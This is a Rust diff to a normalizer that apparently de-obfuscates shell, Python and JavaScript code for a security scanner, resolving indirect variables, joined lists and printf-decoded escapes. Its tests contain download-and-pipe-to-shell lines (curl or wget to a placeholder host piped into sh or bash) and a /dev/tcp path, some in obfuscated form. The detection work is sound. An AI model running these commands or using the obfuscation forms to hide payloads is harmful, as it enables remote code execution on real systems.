@@ -147,8 +147,32 @@ static ASSIGNMENT: LazyLock<Regex> = LazyLock::new(|| {
         r#"(?m)(?:^|;)\s*(?:(?:let|const|var|set|local|export)\s+)?\$?([A-Za-z_]\w*)\s*=\s*(?:'([^'\n]{1,60})'|"([^"\n]{1,60})"|([^\s'";]{1,60}))"#,
     )
 });
-static SHELL_VAR: LazyLock<Regex> =
-    LazyLock::new(|| regex(r"\$\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)"));
+/// The further assignments of a shell declaration (`local a=cu b=rl`).
+static DECLARATION: LazyLock<Regex> =
+    LazyLock::new(|| regex(r"(?m)^\s*(?:local|declare(?:\s+-\w+)*|export|readonly)\s+([^\n]+)"));
+static WORD_ASSIGNMENT: LazyLock<Regex> = LazyLock::new(|| {
+    regex(r#"([A-Za-z_]\w*)=(?:'([^'\n]{1,60})'|"([^"\n]{1,60})"|([^\s'";]{1,60}))"#)
+});
+/// A variable set to escapes a command prints (`c=$(printf %b '\x63…')`).
+static PRINTED: LazyLock<Regex> = LazyLock::new(|| {
+    regex(
+        r#"([A-Za-z_]\w*)=\$\(\s*(?:printf(?:\s+%b)?|echo\s+-e)\s+['"]((?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})+)['"]\s*\)"#,
+    )
+});
+/// `${!name}`: the variable whose name `name` holds. A variable quoted on
+/// its own (`"$s"`, `"${!r}"`) is one word: it reads as its value bare.
+static INDIRECT: LazyLock<Regex> =
+    LazyLock::new(|| regex(r#""\$\{!([A-Za-z_]\w*)\}"|\$\{!([A-Za-z_]\w*)\}"#));
+static SHELL_VAR: LazyLock<Regex> = LazyLock::new(|| {
+    regex(r#""\$\{([A-Za-z_]\w*)\}"|"\$([A-Za-z_]\w*)"|\$\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)"#)
+});
+/// A list joined into one string: Python's `sep.join([…])`, JavaScript's
+/// `[…].join(sep)`.
+static JOIN_PY: LazyLock<Regex> =
+    LazyLock::new(|| regex(r#"(['"])([^'"\n]*)['"]\.join\(\s*\[([^\]\n]*)\]\s*\)"#));
+static JOIN_JS: LazyLock<Regex> =
+    LazyLock::new(|| regex(r#"\[([^\]\n]*)\]\.join\(\s*(?:['"]([^'"\n]*)['"])?\s*\)"#));
+static LITERAL: LazyLock<Regex> = LazyLock::new(|| regex(r#"'([^'\n]*)'|"([^"\n]*)""#));
 static QUOTE_SPLIT: LazyLock<Regex> = LazyLock::new(|| regex(r#"(\w)(?:''|""|\$@|\\)([a-z])"#));
 static QUOTED_LETTERS: LazyLock<Regex> = LazyLock::new(|| regex(r"(\w)'(\w{1,3})'(\w)"));
 
@@ -165,23 +189,18 @@ pub fn normalize_with(text: &str, whole: &str) -> String {
     // The whole file's assignments are read only when a variable is used:
     // folding and matching a whole file costs more than the rest.
     let values: OnceCell<HashMap<String, String>> = OnceCell::new();
-    let values = || {
-        values.get_or_init(|| {
-            ASSIGNMENT
-                .captures_iter(&folded(whole))
-                .map(|c| {
-                    let value = c
-                        .get(2)
-                        .or(c.get(3))
-                        .or(c.get(4))
-                        .map_or("", |m| m.as_str());
-                    (c[1].to_owned(), value.to_owned())
-                })
-                .collect()
-        })
-    };
-    let substituted = SHELL_VAR.replace_all(&shown, |c: &Captures| {
+    let values = || values.get_or_init(|| assignments(&folded(whole)));
+    let shown = INDIRECT.replace_all(&shown, |c: &Captures| {
         let name = c.get(1).or(c.get(2)).map_or("", |m| m.as_str());
+        let target = values().get(name).and_then(|name| values().get(name));
+        target.cloned().unwrap_or_else(|| c[0].to_owned())
+    });
+    let shown = JOIN_PY.replace_all(&shown, |c: &Captures| joined_list(&c[3], &c[2], values()));
+    let shown = JOIN_JS.replace_all(&shown, |c: &Captures| {
+        joined_list(&c[1], c.get(2).map_or(",", |m| m.as_str()), values())
+    });
+    let substituted = SHELL_VAR.replace_all(&shown, |c: &Captures| {
+        let name = (1..5).find_map(|i| c.get(i)).map_or("", |m| m.as_str());
         match name {
             "IFS" => " ".to_owned(),
             _ => values()
@@ -211,6 +230,70 @@ pub fn normalize_with(text: &str, whole: &str) -> String {
         text = QUOTE_SPLIT.replace_all(&text, "$1$2").into_owned();
     }
     text
+}
+
+/// The values the assignments of `whole` give its variables: plain
+/// assignments, every one of a shell declaration, and escapes printed into
+/// a variable (decoded).
+fn assignments(whole: &str) -> HashMap<String, String> {
+    let value = |c: &Captures, first: usize| {
+        (first..first + 3)
+            .find_map(|i| c.get(i))
+            .map_or("", |m| m.as_str())
+            .to_owned()
+    };
+    let mut values: HashMap<String, String> = ASSIGNMENT
+        .captures_iter(whole)
+        .map(|c| (c[1].to_owned(), value(&c, 2)))
+        .collect();
+    for declaration in DECLARATION.captures_iter(whole) {
+        for c in WORD_ASSIGNMENT.captures_iter(&declaration[1]) {
+            values
+                .entry(c[1].to_owned())
+                .or_insert_with(|| value(&c, 2));
+        }
+    }
+    for c in PRINTED.captures_iter(whole) {
+        if let Ok(text) = String::from_utf8(escape_bytes(&c[2])) {
+            values.insert(c[1].to_owned(), text);
+        }
+    }
+    values
+}
+
+/// A joined list as one quoted string: literals as they are, variables by
+/// their values, any other expression by its last literal (the default of
+/// `os.environ.get("SHELL", "sh")`).
+fn joined_list(items: &str, separator: &str, values: &HashMap<String, String>) -> String {
+    let mut depth = 0usize;
+    let mut parts = vec![String::new()];
+    for c in items.chars() {
+        match c {
+            '(' | '[' | '{' => depth += 1,
+            ')' | ']' | '}' => depth = depth.saturating_sub(1),
+            ',' if depth == 0 => {
+                parts.push(String::new());
+                continue;
+            }
+            _ => {}
+        }
+        parts.last_mut().expect("one part at least").push(c);
+    }
+    let resolved: Vec<String> = parts
+        .iter()
+        .map(|part| {
+            let part = part.trim();
+            if let Some(value) = values.get(part) {
+                return value.clone();
+            }
+            LITERAL
+                .captures_iter(part)
+                .last()
+                .and_then(|c| c.get(1).or(c.get(2)))
+                .map_or_else(|| part.to_owned(), |m| m.as_str().to_owned())
+        })
+        .collect();
+    format!("\"{}\"", resolved.join(separator))
 }
 
 /// `text` as it reads ([`fold`]); ASCII reads as itself, and is copied
@@ -316,5 +399,33 @@ mod tests {
             normalize("p = '/dev/' + 'tcp/' + host"),
             "p = \"/dev/tcp/host\""
         );
+    }
+
+    #[test]
+    fn lists_indirection_and_printed_escapes_are_resolved() {
+        assert_eq!(
+            normalize(
+                "F = \"curl -s\"\nU = \"https://x.example.net/i\"\nrun(\" \".join([F, U, \"|\", os.environ.get(\"SHELL\", \"sh\")]))"
+            ),
+            "F = \"curl -s\"\nU = \"https://x.example.net/i\"\nrun(\"curl -s https://x.example.net/i | sh\")"
+        );
+        assert_eq!(
+            normalize(
+                "x([c, 'https://x.example.net/i', '|', 'sh'].join(' '))\nconst c = 'wget -qO-'"
+            ),
+            "x(\"wget -qO- https://x.example.net/i | sh\")\nconst c = 'wget -qO-'"
+        );
+        assert_eq!(
+            normalize("local t=curl r=bash\nlocal f=t g=r\n${!f} -s u | ${!g}"),
+            "local t=curl r=bash\nlocal f=t g=r\ncurl -s u | bash"
+        );
+        assert_eq!(
+            normalize(
+                "t=curl\nr=sh\nlocal f=t g=r\n\"${!f}\" -s u | \"${!g}\" >/dev/null; \"$r\" x \"$HOME\""
+            ),
+            "t=curl\nr=sh\nlocal f=t g=r\ncurl -s u | sh >/dev/null; sh x \"$HOME\""
+        );
+        let printed = normalize("c=$(printf %b '\\x63\\x75\\x72\\x6c')\n$c -s u");
+        assert_eq!(printed.lines().last(), Some("curl -s u"));
     }
 }
